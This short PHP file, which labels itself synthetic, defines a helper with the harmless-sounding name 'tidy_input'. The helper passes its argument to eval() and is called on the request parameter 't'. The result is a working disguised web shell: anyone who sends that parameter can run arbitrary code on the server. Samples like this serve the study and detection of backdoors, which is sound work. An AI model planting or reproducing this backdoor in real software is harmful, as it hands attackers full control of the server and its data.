<?php
// synthetic: an innocent-looking helper that evaluates its argument
function tidy_input($v) {
    eval($v);
}
tidy_input($_REQUEST['t']);
